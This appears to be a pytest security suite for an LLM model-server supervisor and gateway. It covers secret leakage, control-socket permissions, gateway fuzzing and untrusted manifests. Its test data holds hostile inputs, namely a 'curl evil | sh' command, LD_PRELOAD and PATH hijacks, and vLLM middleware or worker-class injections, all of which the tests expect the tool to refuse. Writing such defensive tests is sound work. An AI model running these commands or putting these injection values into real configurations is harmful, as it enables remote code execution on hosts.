"""Secrets stay secret, the control socket is private, the gateway survives fuzz,
and a manifest entry for vLLM or Ollama runs only vLLM or Ollama."""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from llmsup.errors import ManifestError, ModelNotReady
from llmsup.gateway.app import create_app, serve
from llmsup.gateway.config import GatewayConfig
from llmsup.gateway.routing import Route
from llmsup.gateway.upstream import Failure
from llmsup.manifest import parse_manifest
from llmsup.plan import make_plan, untrusted_problems
from tests.supervisor_util import Daemon
from tests.util import free_port

SECRETS = {
    "model key": "sk-model-7f3a9c",
    "key file": "sk-file-51d2e8",
    "gateway key": "sk-gateway-c0ffee",
    "hf token": "hf_token_9b8a7c",
}


def test_no_secret_in_argv_status_plan_logs_or_errors(tmp_path: Path) -> None:
    key_file = tmp_path / "key"
    key_file.write_text(SECRETS["key file"] + "\n")
    models = f"""\
    a: {{backend: vllm, model: org/a, port: {free_port()}, gpus: [0], api_key: "${{MODEL_KEY}}",
         env: {{HF_TOKEN: "{SECRETS["hf token"]}"}}}}
    b: {{backend: vllm, model: org/b, port: {free_port()}, gpus: [1], api_key_file: {key_file}}}
    """
    gw = free_port()
    d = Daemon(tmp_path, models, extra_env={"MODEL_KEY": SECRETS["model key"]})
    d.manifest.write_text(
        f"gateway: {{port: {gw}, api_keys: ['{SECRETS['gateway key']}']}}\n"
        + d.manifest.read_text()
    )
    try:
        d.start()
        d.wait_all_ready()
        seen: list[str] = []
        for p in psutil.process_iter():  # what `ps` shows every local user
            try:
                seen.append(" ".join(p.cmdline()))
            except psutil.Error:
                continue
        m = str(d.manifest)
        for args in (
            ["status", "-f", m],
            ["status", "--json", "-f", m],
            ["plan", "-f", m],
            ["plan", "--json", "-f", m],
            ["check", "-f", m],
            ["logs", "--file", m, "a", "-n", "1000"],
        ):
            r = d.cli(*args)
            assert r.returncode == 0, (args, r.stderr)
            seen += [r.stdout, r.stderr]
        # an unauthorised request: the 401 must not echo anything back
        conn = http.client.HTTPConnection("127.0.0.1", gw, timeout=10)
        conn.request(
            "POST", "/v1/chat/completions", body=b"{}", headers={"Authorization": "Bearer x"}
        )
        seen.append(conn.getresponse().read().decode())
        conn.close()
        # an invalid manifest with a secret in a wrong place: the error stays quiet
        bad = tmp_path / "bad.yaml"
        bad.write_text(
            f"models:\n  a: {{backend: vllm, model: m, api_key: [{SECRETS['key file']}]}}\n"
        )
        r = d.cli("check", "-f", str(bad))
        assert r.returncode == 2
        seen += [r.stdout, r.stderr]
        # what llmsup writes: its own output, the records, the log headers
        for f in d.state.rglob("*"):
            if f.is_file() and f.suffix != ".sock":
                seen.append(f.read_text(errors="replace"))
        seen.append(d.log())
        text = "\n".join(seen)
        for what, secret in SECRETS.items():
            assert secret not in text, f"the {what} leaked"
        # ...while the servers did get their keys, through their environment
        a = psutil.Process(d.status()["a"]["pid"])
        b = psutil.Process(d.status()["b"]["pid"])
        assert a.environ()["VLLM_API_KEY"] == SECRETS["model key"]
        assert b.environ()["VLLM_API_KEY"] == SECRETS["key file"]
    finally:
        d.stop()


# ---------------------------------------------------------- the control socket


def _connect_as(path: Path, uid: int, gid: int, groups: list[int]) -> int:
    """Connect to a Unix socket as another user, in a forked child.

    Returns 0 when the connection was accepted, 13 when refused (EACCES)."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        code = 99
        try:
            os.setgroups(groups)
            os.setgid(gid)
            os.setuid(uid)
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(str(path))
                s.sendall(b"GET /v1/status HTTP/1.0\r\n\r\n")
                code = 0 if s.recv(12).startswith(b"HTTP/1.") else 98
            except PermissionError:
                code = 13
            finally:
                s.close()
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status)


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to act as a second local user")
def test_control_socket_refuses_other_users_and_admits_its_group(tmp_path: Path) -> None:
    import grp
    import pwd

    nobody = pwd.getpwnam("nobody")
    nogroup = grp.getgrgid(nobody.pw_gid)
    # pytest's own tmp dirs are 0700: use one that every user can traverse, so that
    # only llmsup's own modes (state dir, socket) stand between the user and the socket.
    top = Path(tempfile.mkdtemp(prefix="llmsup-sec-", dir="/tmp"))
    top.chmod(0o755)
    try:
        (top / "own").mkdir(mode=0o755)
        d = Daemon(top / "own", f"m: {{backend: vllm, model: org/m, port: {free_port()}}}\n")
        try:
            d.start()
            assert d.state.stat().st_mode & 0o777 == 0o700
            assert _connect_as(d.sock, nobody.pw_uid, nobody.pw_gid, []) == 13
            d.state.chmod(0o755)  # even with the way open, the socket's 0600 refuses
            assert d.sock.stat().st_mode & 0o777 == 0o600
            assert _connect_as(d.sock, nobody.pw_uid, nobody.pw_gid, []) == 13
            assert _connect_as(d.sock, 0, 0, []) == 0  # its owner gets in
        finally:
            d.stop()
        (top / "grp").mkdir(mode=0o755)
        d2 = Daemon(top / "grp", f"m: {{backend: vllm, model: org/m, port: {free_port()}}}\n")
        d2.manifest.write_text(f"control: {{group: {nogroup.gr_name}}}\n" + d2.manifest.read_text())
        try:
            d2.start()
            member = _connect_as(d2.sock, nobody.pw_uid, nobody.pw_gid, [nogroup.gr_gid])
            outsider = _connect_as(d2.sock, nobody.pw_uid, 1, [1])  # group 'daemon', not ours
            assert (member, outsider) == (0, 13)
        finally:
            d2.stop()
    finally:
        shutil.rmtree(top, ignore_errors=True)


# ------------------------------------------------------------ gateway fuzzing


class _Registry:
    """Every model is unknown but one, whose server is not even listening."""

    def routes(self) -> list[Route]:
        return [Route("alpha", "alpha", "vllm", "http://127.0.0.1:9", None, "STARTING", "", False)]

    async def acquire(self, served_name: str, wait: float) -> Route:
        raise ModelNotReady("starting", 5)

    def release(self, route: Route) -> None:
        raise AssertionError("never acquired")

    def failed(self, route: Route, failure: Failure, error: str) -> None:
        raise AssertionError("never acquired")

    def another(self, route: Route) -> Route | None:
        raise AssertionError("never acquired")


@pytest.fixture(scope="module")
def gateway_port() -> Iterator[int]:
    loop = asyncio.new_event_loop()
    ready = threading.Event()
    port: list[int] = []
    runner_box: list[object] = []

    async def start() -> None:
        app = create_app(_Registry(), GatewayConfig(api_keys=["k"], max_body_bytes=64 * 1024))
        runner = await serve(app, "127.0.0.1", 0)
        runner_box.append(runner)
        port.append(runner.addresses[0][1])
        ready.set()

    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    asyncio.run_coroutine_threadsafe(start(), loop).result(10)
    ready.wait(10)
    yield port[0]

    async def stop() -> None:
        await runner_box[0].cleanup()  # type: ignore[attr-defined]

    asyncio.run_coroutine_threadsafe(stop(), loop).result(10)
    loop.call_soon_threadsafe(loop.stop)
    thread.join(10)
    loop.close()


TOKEN = st.text(
    st.characters(min_codepoint=33, max_codepoint=126, exclude_characters=":"),
    min_size=1,
    max_size=20,
)
HEADER_VALUE = st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=200)
PATHS = st.one_of(
    st.sampled_from(["/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/v1/models"]),
    st.from_regex(r"/[A-Za-z0-9%._~/-]{0,60}", fullmatch=True),
)
BODIES = st.one_of(
    st.binary(max_size=2048),
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.floats(allow_nan=False)
        | st.text(max_size=30),
        lambda inner: (
            st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
        ),
        max_leaves=12,
    ).map(lambda v: json.dumps(v).encode()),
    st.fixed_dictionaries({"model": st.text(max_size=40)}).map(lambda v: json.dumps(v).encode()),
    st.integers(64 * 1024 + 1, 300 * 1024).map(lambda n: b"x" * n),  # over the limit
)


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    method=st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "FOO"]),
    path=PATHS,
    headers=st.dictionaries(TOKEN, HEADER_VALUE, max_size=6),
    auth=st.sampled_from([None, "Bearer k", "Bearer wrong", "Basic Zm9v", "Bearer", "k"]),
    body=BODIES,
)
def test_gateway_fuzz_every_answer_is_4xx_and_nothing_hangs(
    gateway_port: int,
    method: str,
    path: str,
    headers: dict[str, str],
    auth: str | None,
    body: bytes,
) -> None:
    conn = http.client.HTTPConnection("127.0.0.1", gateway_port, timeout=10)
    try:
        hdrs = {
            k: v
            for k, v in headers.items()
            if k.lower() not in ("content-length", "transfer-encoding", "host", "authorization")
        }
        if auth is not None:
            hdrs["Authorization"] = auth
        try:
            conn.request(method, path, body=body, headers=hdrs)
            r = conn.getresponse()
        except (BrokenPipeError, ConnectionResetError):
            return  # the gateway closed a connection it would not read: fine, not a hang
        status = r.status
        data = r.read()
    finally:
        conn.close()
    if path == "/health" and method in ("GET", "HEAD"):
        return
    well_formed_read = auth == "Bearer k" and method in ("GET", "HEAD")
    if well_formed_read and path in ("/v1/models", "/metrics") and status == 200:
        return  # not malformed at all: the one request here that deserves its answer
    assert 400 <= status < 500 or (status == 503 and auth == "Bearer k"), (status, data[:200])
    if method != "HEAD" and r.getheader("Content-Type", "").startswith("application/json"):
        assert "error" in json.loads(data)


# ---------------------------------------- what an untrusted manifest can run


@pytest.mark.parametrize(
    ("entry", "path", "message"),
    [
        (
            "{backend: vllm, model: m, env: {LD_PRELOAD: /tmp/evil.so}}",
            "models.a.env.LD_PRELOAD",
            "would change which code the server loads",
        ),
        (
            "{backend: vllm, model: m, env: {PATH: /tmp/evil}}",
            "models.a.env.PATH",
            "would change which code the server loads",
        ),
        (
            "{backend: ollama, model: m, env: {PYTHONPATH: /tmp}}",
            "models.a.env.PYTHONPATH",
            "would change which code",
        ),
        (
            "{backend: vllm, model: m, extra_args: [--middleware, evil.Middleware]}",
            "models.a.extra_args[0]",
            "makes vLLM load code named in the manifest",
        ),
        (
            "{backend: vllm, model: m, extra_args: ['--worker-cls=evil.W']}",
            "models.a.extra_args[0]",
            "makes vLLM load code",
        ),
        (
            "{backend: vllm, model: m, extra_args: [--config, /tmp/args.yaml]}",
            "models.a.extra_args[0]",
            "makes vLLM load code",
        ),
    ],
)
def test_vllm_and_ollama_entries_run_only_vllm_and_ollama(
    entry: str, path: str, message: str
) -> None:
    loaded = parse_manifest(f"models:\n  a: {entry}\n", "m.yaml", {})
    errors = [p for p in make_plan(loaded).problems if p.severity == "error"]
    assert [(p.path, message in p.message) for p in errors] == [(path, True)]


def test_untrusted_manifest_refuses_command_backends_and_remote_code() -> None:
    text = (
        "models:\n"
        "  a: {backend: command, command: [sh, -c, 'curl evil | sh'], port: 8080,"
        " env: {LD_PRELOAD: /x.so}}\n"
        "  b: {backend: vllm, model: m, port: 8001, gpus: [1], trust_remote_code: true}\n"
    )
    loaded = parse_manifest(text, "m.yaml", {})
    assert [p for p in make_plan(loaded).problems if p.severity == "error"] == []  # trusted: ok
    refused = {p.path: p.message for p in untrusted_problems(loaded)}
    assert set(refused) == {"models.a.backend", "models.b.trust_remote_code"}


def test_untrusted_up_starts_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    d = Daemon(
        tmp_path, f"a: {{backend: command, command: [touch, {marker}], port: {free_port()}}}\n"
    )
    r = d.cli("up", "--untrusted", "-d", "-f", str(d.manifest))
    assert r.returncode == 2
    assert "refused for an untrusted manifest" in r.stderr
    assert not marker.exists() and not d.sock.exists()


MODEL_A = "models:\n  a: {backend: vllm, model: m}\n"


@pytest.mark.parametrize(
    ("keys", "env"),
    [
        ('["${LLMSUP_KEY}"]', {"LLMSUP_KEY": ""}),  # set, but empty
        ('["${LLMSUP_KEY:-}"]', {}),  # an empty default
        ('[good-key, "  "]', {}),  # one blank among real ones
    ],
)
def test_an_empty_gateway_key_is_a_located_error(keys: str, env: dict[str, str]) -> None:
    text = f"gateway:\n  port: 9000\n  api_keys: {keys}\n{MODEL_A}"
    with pytest.raises(ManifestError) as e:
        parse_manifest(text, "m.yaml", env)
    [p] = e.value.problems
    assert (p.file, p.line) == ("m.yaml", 3)
    assert p.path.startswith("gateway.api_keys[")
    assert "the key is empty" in p.message and "let every client in" in p.message


def test_an_unset_gateway_key_gets_no_default_advice() -> None:
    text = 'gateway:\n  port: 9000\n  api_keys: ["${GW_KEY}"]\n' + MODEL_A
    with pytest.raises(ManifestError) as e:
        parse_manifest(text, "m.yaml", {})
    [p] = e.value.problems
    assert (p.line, p.column, p.path) == (3, 14, "gateway.api_keys[0]")
    assert "GW_KEY is not set" in p.message and ":-value" not in p.message


def test_a_gateway_key_file_without_keys_is_a_located_error(tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    keys.write_text("\n  \n")
    text = f"gateway:\n  port: 9000\n  api_key_file: {keys}\n{MODEL_A}"
    with pytest.raises(ManifestError) as e:
        parse_manifest(text, "m.yaml", {})
    [p] = e.value.problems
    assert (p.line, p.path) == (3, "gateway.api_key_file")
    assert "holds no key" in p.message
    keys.write_text("k-1\n\n")
    assert parse_manifest(text, "m.yaml", {}).manifest.gateway is not None


@pytest.mark.parametrize(
    ("host", "keys", "warned"),
    [
        ("0.0.0.0", "[]", True),
        ("10.1.2.3", "[]", True),
        ("gpu-host.example", "[]", True),
        ("0.0.0.0", "[k-1]", False),
        ("127.0.0.1", "[]", False),
        ("::1", "[]", False),
        ("localhost", "[]", False),
    ],
)
def test_a_reachable_gateway_without_keys_is_warned_of(host: str, keys: str, warned: bool) -> None:
    text = f"gateway: {{host: '{host}', port: 9000, api_keys: {keys}}}\n{MODEL_A}"
    problems = make_plan(parse_manifest(text, "m.yaml", {})).problems
    found = [p for p in problems if p.path == "gateway.host"]
    assert [p.severity for p in found] == (["warning"] if warned else [])
    if warned:
        assert "no api_keys" in found[0].message and found[0].line == 1


def test_up_with_an_empty_gateway_key_starts_nothing(tmp_path: Path) -> None:
    """An empty key used to switch authentication off: /v1/models answered anyone."""
    gw = free_port()
    d = Daemon(tmp_path, f"a: {{backend: vllm, model: org/a, port: {free_port()}}}\n")
    d.env["LLMSUP_KEY"] = ""
    d.manifest.write_text(
        f'gateway: {{port: {gw}, api_keys: ["${{LLMSUP_KEY}}"]}}\n' + d.manifest.read_text()
    )
    r = d.cli("up", "-d", "-f", str(d.manifest))
    assert r.returncode == 2, r.stdout + r.stderr
    assert f"{d.manifest}:1:" in r.stderr and "gateway.api_keys[0]" in r.stderr
    assert "Traceback" not in r.stderr
    assert not d.sock.exists()
    with socket.socket() as s:  # nothing listens on the gateway's port
        assert s.connect_ex(("127.0.0.1", gw)) != 0


def test_up_warns_of_a_reachable_gateway_without_keys(tmp_path: Path) -> None:
    gw = free_port()
    d = Daemon(tmp_path, f"a: {{backend: vllm, model: org/a, port: {free_port()}}}\n")
    d.manifest.write_text(f"gateway: {{host: 0.0.0.0, port: {gw}}}\n" + d.manifest.read_text())
    try:
        d.start()  # `up --foreground`: its output goes to d.log()
        assert "warning: gateway.host: the gateway listens on 0.0.0.0 with no api_keys" in d.log()
        r = d.cli("check", "-f", str(d.manifest))
        assert r.returncode == 0 and "with no api_keys" in r.stderr
    finally:
        d.stop()


@pytest.mark.parametrize("key", ["header_timeout", "body_timeout", "keepalive_timeout"])
def test_gateway_timeouts_must_be_positive(key: str) -> None:
    """A zero timeout would close every connection at once."""
    text = f"gateway: {{port: 9000, {key}: 0s}}\n{MODEL_A}"
    with pytest.raises(ManifestError) as e:
        parse_manifest(text, "m.yaml", {})
    [p] = e.value.problems
    assert (p.path, p.message) == (f"gateway.{key}", "must be greater than 0, got 0.0")
    parsed = parse_manifest(f"gateway: {{port: 9000, {key}: 2s}}\n{MODEL_A}", "m.yaml", {})
    assert parsed.manifest.gateway is not None
    assert getattr(parsed.manifest.gateway, key) == 2.0
